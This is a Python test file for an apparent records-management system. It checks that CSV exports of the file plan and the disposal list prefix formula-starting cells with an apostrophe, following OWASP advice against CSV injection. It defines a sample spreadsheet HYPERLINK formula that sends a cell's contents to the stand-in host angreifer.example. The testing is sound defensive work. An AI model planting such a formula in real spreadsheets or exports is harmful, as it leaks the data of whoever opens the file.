"""Issue 14, finding 5: no CSV export hands a spreadsheet a formula. Cells that begin with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return are prefixed with ``'`` (OWASP), in the
file plan (R5) and the disposal list (R8), from the web and from the command line."""

import csv
import io
from datetime import date

import pytest
from click.testing import CliRunner

from eakte.cli import main
from eakte.csv_export import csv_writer, restore
from eakte.services import cases, fileplan

FORMULA = '=HYPERLINK("http://angreifer.example/?d="&A1;"Akte öffnen")'


def cells(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def all_cells(data) -> set[str]:
    return {cell for row in cells(data) for cell in row}


@pytest.fixture
def cli(env):
    runner = CliRunner()
    return lambda *args: runner.invoke(main, [str(a) for a in args], catch_exceptions=False)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_restored(start):
    out = io.StringIO()
    csv_writer(out).writerow([f"{start}1+1", "32.10", 7, None])
    (row,) = cells(out.getvalue())
    assert row == [f"'{start}1+1", "32.10", "7", ""]
    assert restore(row[0]) == f"{start}1+1" and restore("'Zitat'") == "'Zitat'"


def test_r5_file_plan_export_neutralises_a_formula_title_everywhere(world, sign_in, cli):
    with world.session() as s:
        quoted = FORMULA.replace('"', '""')
        plan = f'code;title;parent;schedule;org_unit\n70;"{quoted}";;;\n'
        fileplan.import_csv(s, world.officer, plan.encode())
        exported = fileplan.export_csv(s, world.officer)
    web = sign_in("registratur").get("/registratur/aktenplan.csv").get_data()
    command = cli("fileplan", "export", "--user", "registratur").output
    for data in (exported, web, command):
        assert FORMULA not in all_cells(data) and "'" + FORMULA in all_cells(data)
    # the export still imports as it is, and the title comes back unchanged
    with world.session() as s:
        fileplan.import_csv(s, world.officer, exported)
        assert cases.find_node(s, world.officer, "70").title == FORMULA


def test_r8_disposal_list_neutralises_a_formula_case_title_everywhere(
    world, records, sign_in, cli, tmp_path
):
    from retention.due import export_csv

    records.case(FORMULA, closed_on=date(2010, 3, 1), documents_=0)
    out = io.StringIO()
    with world.session() as s:
        export_csv(s, world.officer, out)
    web = sign_in("registratur").get("/aussonderung/liste.csv").get_data()
    path = tmp_path / "due.csv"
    assert cli("retention", "due", "--csv", path, "--user", "registratur").exit_code == 0
    for data in (out.getvalue(), web, path.read_bytes()):
        assert FORMULA not in all_cells(data) and "'" + FORMULA in all_cells(data)
